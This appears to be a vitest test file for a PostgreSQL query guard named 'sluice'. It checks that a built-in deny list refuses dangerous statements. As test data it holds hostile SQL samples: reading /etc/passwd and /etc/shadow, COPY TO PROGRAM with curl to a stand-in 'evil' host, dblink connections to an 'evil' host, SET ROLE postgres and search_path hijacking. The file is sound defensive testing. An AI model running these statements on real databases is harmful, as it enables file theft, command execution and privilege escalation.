import { describe, expect, it } from 'vitest';
import { GRANTS } from '../../src/config/schema.js';
import type { StatementFacts } from '../../src/guard/facts.js';
import { facts, judge, policies, principal } from './fixtures.js';

/** Statements that call a denied function, wherever it sits in the text; src/sql lists every function called in the tree. */
const deniedCalls: Array<[StatementFacts, string]> = [
  [facts('select', "SELECT pg_read_file('/etc/passwd')", { functions: ['pg_read_file'] }), 'pg_read_file'],
  [facts('select', "SELECT pg_catalog.pg_read_file('/etc/passwd')", { functions: ['pg_catalog.pg_read_file'] }), 'pg_catalog.pg_read_file'],
  [facts('select', "SELECT PG_READ_FILE('x')", { functions: ['pg_read_file'] }), 'pg_read_file'],
  [facts('select', `SELECT "pg_read_file"('x')`, { functions: ['"pg_read_file"'] }), '"pg_read_file"'],
  [facts('select', `SELECT "PG_CATALOG"."PG_READ_FILE"('x')`, { functions: ['PG_CATALOG.PG_READ_FILE'] }), 'PG_CATALOG.PG_READ_FILE'],
  [facts('select', "SELECT * FROM orders WHERE id IN (SELECT length(pg_read_binary_file('x')))", { tablesRead: ['orders'], functions: ['length', 'pg_read_binary_file'] }), 'pg_read_binary_file'],
  [facts('select', "WITH x AS (SELECT pg_ls_dir('.')) SELECT * FROM x", { functions: ['pg_ls_dir'] }), 'pg_ls_dir'],
  [facts('select', "SELECT /* harmless */ 1 FROM orders ORDER BY pg_stat_file('x')", { tablesRead: ['orders'], functions: ['pg_stat_file'] }), 'pg_stat_file'],
  [facts('select', "SELECT lo_import('/etc/shadow')", { functions: ['lo_import'] }), 'lo_import'],
  [facts('select', "SELECT lo_export(16385, '/tmp/x')", { functions: ['lo_export'] }), 'lo_export'],
  [facts('select', 'SELECT pg_terminate_backend(pid) FROM pg_stat_activity', { tablesRead: ['pg_stat_activity'], functions: ['pg_terminate_backend'] }), 'pg_terminate_backend'],
  [facts('select', 'SELECT pg_cancel_backend(1)', { functions: ['pg_cancel_backend'] }), 'pg_cancel_backend'],
  [facts('select', 'SELECT pg_reload_conf()', { functions: ['pg_reload_conf'] }), 'pg_reload_conf'],
  [facts('select', 'SELECT pg_rotate_logfile()', { functions: ['pg_rotate_logfile'] }), 'pg_rotate_logfile'],
  [facts('select', "SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)", { functions: ['dblink'] }), 'dblink'],
  [facts('select', "SELECT dblink_connect('host=evil')", { functions: ['dblink_connect'] }), 'dblink_connect'],
  [facts('select', "SELECT public.dblink_exec('c', 'drop table x')", { functions: ['public.dblink_exec'] }), 'public.dblink_exec'],
  [facts('select', "SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)", { functions: ['pg_logical_slot_get_changes'] }), 'pg_logical_slot_get_changes'],
  [facts('insert', "INSERT INTO orders SELECT pg_read_file('x')", { tablesWritten: ['orders'], functions: ['pg_read_file'] }), 'pg_read_file'],
  [facts('ddl.create', "CREATE TABLE t (a text DEFAULT pg_read_file('x'))", { tablesWritten: ['t'], functions: ['pg_read_file'] }), 'pg_read_file'],
  [facts('explain', "EXPLAIN SELECT pg_read_file('x')", { functions: ['pg_read_file'] }), 'pg_read_file'],
];

/** Calls that share a prefix or a schema with a denied function but are not one. */
const harmlessCalls: StatementFacts[] = [
  facts('select', 'SELECT now(), lower(name) FROM orders', { tablesRead: ['orders'], functions: ['now', 'lower'] }),
  facts('select', 'SELECT pg_catalog.pg_read_file_history()', { functions: ['pg_catalog.pg_read_file_history'] }),
  facts('select', 'SELECT my_dblink()', { functions: ['my_dblink'] }),
  facts('select', "SELECT current_setting('role')", { functions: ['current_setting'] }),
  facts('select', 'SELECT pg_backend_pid()', { functions: ['pg_backend_pid'] }),
];

describe('built-in deny list', () => {
  it.each(deniedCalls)('%# denies %s (%s) for every grant', (f, shown) => {
    for (const g of GRANTS) {
      const v = judge(f, g);
      expect(v).toEqual({
        action: 'deny',
        rule: 'sluice-default-functions',
        reason: `sluice: function ${shown.includes('"') ? JSON.stringify(shown) : shown} denied by rule sluice-default-functions`,
        sqlstate: '42501',
      });
    }
  });

  it.each(harmlessCalls)('%# lets harmless calls through (%o)', (f) => {
    expect(judge(f, 'read')).toEqual({ action: 'allow', rule: 'sluice-grants' });
  });

  it('allow rules cannot lift the function list', () => {
    const pols = policies({ name: 'lift', when: { groups: ['eng'] }, resources: ['*'], statements: { settings: ['pg_read_file'], opaque: true } });
    expect(judge(deniedCalls[0]![0], 'admin', pols)).toMatchObject({ action: 'deny', rule: 'sluice-default-functions' });
  });

  it.each([
    [facts('copy.out', "COPY orders TO '/tmp/x'", { tablesRead: ['orders'], effects: ['copy_file'] }), 'COPY with a server file'],
    [facts('copy.in', "COPY orders FROM '/etc/passwd'", { tablesWritten: ['orders'], effects: ['copy_file'] }), 'COPY with a server file'],
    [facts('copy.out', "COPY orders TO PROGRAM 'curl evil'", { tablesRead: ['orders'], effects: ['copy_program'] }), 'COPY with PROGRAM'],
    [facts('copy.in', "copy orders from program 'id'", { tablesWritten: ['orders'], effects: ['copy_program'] }), 'COPY with PROGRAM'],
  ])('%# denies %s whatever the grant', (f, what) => {
    for (const g of GRANTS) {
      const v = judge(f, g);
      expect(v).toMatchObject({ action: 'deny', rule: 'sluice-default-functions' });
      expect(v.action === 'deny' && v.reason).toContain(what);
    }
  });
});

describe('refused settings', () => {
  const refused: StatementFacts[] = [
    facts('set', 'SET ROLE postgres', { setting: { name: 'role', value: 'postgres' } }),
    facts('set', 'set local role postgres', { setting: { name: 'role', value: 'postgres' } }),
    facts('set', 'SET "ROLE" = postgres', { setting: { name: 'ROLE', value: 'postgres' } }),
    facts('reset', 'RESET ROLE', { setting: { name: 'role' } }),
    facts('set', 'SET SESSION AUTHORIZATION postgres', { setting: { name: 'session_authorization', value: 'postgres' } }),
    facts('set', 'SET SESSION AUTHORIZATION DEFAULT', { setting: { name: 'session authorization' } }),
    facts('set', 'SET search_path TO evil, public', { setting: { name: 'search_path', value: 'evil, public' } }),
    facts('set', 'SET Search_Path = evil', { setting: { name: 'Search_Path', value: 'evil' } }),
    facts('set', "SET client_encoding = 'SJIS'", { setting: { name: 'client_encoding', value: 'SJIS' } }),
    facts('set', "SET NAMES 'SJIS'", { setting: { name: 'names', value: 'SJIS' } }),
    facts('select', "SELECT set_config('role', 'postgres', false)", { functions: ['set_config'], setting: { name: 'role', value: 'postgres' } }),
    facts('select', "SELECT set_config('ROLE', 'postgres', false)", { functions: ['set_config'], setting: { name: 'ROLE', value: 'postgres' } }),
    facts('select', "SELECT pg_catalog.set_config(' Role ', 'postgres', true)", { functions: ['pg_catalog.set_config'], setting: { name: ' Role ', value: 'postgres' } }),
    facts('select', "SELECT set_config('session_authorization', 'postgres', false)", { functions: ['set_config'], setting: { name: 'session_authorization', value: 'postgres' } }),
    facts('select', "SELECT * FROM orders WHERE set_config('search_path', 'evil', true) IS NOT NULL", { tablesRead: ['orders'], functions: ['set_config'], setting: { name: 'search_path', value: 'evil' } }),
  ];

  it.each(refused)('%# refuses %o for every grant', (f) => {
    for (const g of GRANTS) {
      const v = judge(f, g);
      expect(v).toMatchObject({ action: 'deny', rule: 'sluice-default-functions', sqlstate: '42501' });
      expect(v.action === 'deny' && v.reason).toMatch(/^sluice: (SET|RESET|set_config) of (role|session_authorization|search_path|client_encoding) denied by rule sluice-default-functions;/);
    }
  });

  it('refuses set_config and SET when the setting cannot be named', () => {
    const dynamic = facts('select', "SELECT set_config(current_user || '', 'x', false)", { functions: ['set_config'] });
    const viaSubquery = facts('select', "SELECT (SELECT set_config(name, 'x', false) FROM t)", { tablesRead: ['t'], functions: ['set_config'] });
    const bareSet = facts('set', 'SET something');
    const oneLiteralOneNot = facts('select', "SELECT set_config('application_name', 'x', false), set_config(n, 'postgres', false) FROM t", {
      functions: ['set_config'],
      setting: { name: 'application_name', value: 'x' },
      effects: ['set_config', 'dynamic_setting'],
      opaque: true,
    });
    for (const f of [dynamic, viaSubquery, bareSet, oneLiteralOneNot]) {
      for (const g of GRANTS) expect(judge(f, g)).toMatchObject({ action: 'deny', rule: 'sluice-default-functions' });
    }
    expect(judge(dynamic, 'admin')).toMatchObject({ reason: expect.stringContaining('set_config with a setting name that is not a literal') });
  });

  const allowRole = policies(
    { name: 'dba-may-set-role', when: { groups: ['dba'] }, resources: ['orders'], statements: { settings: ['ROLE', 'names'] } },
    { name: 'everyone-search-path', when: { groups: ['eng', 'dba'] }, resources: ['*'], statements: { settings: ['search_path'] } },
    { name: 'elsewhere', when: { groups: ['eng'] }, resources: ['billing'], statements: { settings: ['session_authorization'] } },
  );

  it('an allow rule naming a setting permits it for the principals and resources it matches', () => {
    const dba = principal({ groups: ['dba'] });
    const setRole = refused[0]!;
    const setConfigRole = refused[11]!;
    expect(judge(setRole, 'read', allowRole, dba)).toEqual({ action: 'allow', rule: 'dba-may-set-role' });
    expect(judge(setConfigRole, 'read', allowRole, dba)).toEqual({ action: 'allow', rule: 'dba-may-set-role' });
    expect(judge(refused[9]!, 'read', allowRole, dba)).toEqual({ action: 'allow', rule: 'dba-may-set-role' });
    expect(judge(setRole, 'admin', allowRole)).toMatchObject({ action: 'deny', rule: 'sluice-default-functions' });
    expect(judge(refused[6]!, 'read', allowRole)).toEqual({ action: 'allow', rule: 'everyone-search-path' });
    // The rule names another resource.
    expect(judge(refused[4]!, 'read', allowRole)).toMatchObject({ action: 'deny', rule: 'sluice-default-functions' });
  });

  it('a deny rule on a setting wins over an allow rule for it', () => {
    const pols = [
      ...allowRole,
      ...policies({ name: 'no-search-path-in-ci', effect: 'deny', when: { groups: ['eng'] }, resources: ['orders'], statements: { settings: ['search_path'] } }),
    ];
    expect(judge(refused[6]!, 'admin', pols)).toEqual({
      action: 'deny',
      rule: 'no-search-path-in-ci',
      reason: 'sluice: SET denied by rule no-search-path-in-ci (setting search_path)',
      sqlstate: '42501',
    });
  });
});

